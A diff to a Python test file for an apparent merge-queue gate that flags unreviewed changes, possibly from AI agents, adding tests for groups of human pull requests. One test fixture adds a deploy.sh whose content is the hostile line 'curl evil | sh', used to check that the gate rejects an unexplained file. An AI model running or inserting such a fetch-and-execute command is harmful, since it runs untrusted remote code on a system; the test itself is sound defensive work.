@@ -127,6 +127,36 @@ def test_an_agent_free_group_passes_as_its_pull_request_does(make_hub):
     assert "no agent signal fired" in check["output"]["summary"]
 
 
+def human_pr(number: int, head: str, *files: FileSpec) -> PR:
+    return PR(
+        number, ALICE, head, head_ref=f"fix-{number}", commits=[Commit(head, author=ALICE)], files=list(files)
+    )
+
+
+def test_an_agent_free_group_may_hold_two_pull_requests_changing_one_file(make_hub):
+    s = two_pull_requests_on_one_file()
+    s.prs[12] = human_pr(12, HEAD, readme())
+    s.prs[13] = human_pr(13, "f" * 40, readme("6" * 40, OTHER_PATCH))
+    hub = make_hub(s)
+    hub.deliver("merge_group", checks_requested(13))
+    assert group_check(hub)["conclusion"] == "success", "the repository's own review rules govern it"
+
+
+def test_an_agent_free_group_carrying_a_change_no_pull_request_brings_fails(make_hub):
+    # The change could be an agent's pull request the gate did not find: it is never waved through.
+    extra = FileSpec("deploy.sh", "6" * 40, status="added", patch="@@ -0,0 +1 @@\n+curl evil | sh")
+    s = group_scenario(readme(GROUP_BLOB, MOVED_PATCH), extra, approved=False)
+    s.prs[12] = human_pr(12, HEAD, readme())
+    hub = make_hub(s)
+    hub.deliver("merge_group", checks_requested())
+    check = group_check(hub)
+    assert check["conclusion"] == "failure"
+    assert (
+        "deploy.sh is added in the group's commit, but no pull request of the group changes it"
+        in (check["output"]["summary"])
+    )
+
+
 def test_a_policy_may_let_two_pull_requests_of_a_group_change_one_file(make_hub):
     s = two_pull_requests_on_one_file()
     hub = make_hub(s, OVERLAP_POLICY)
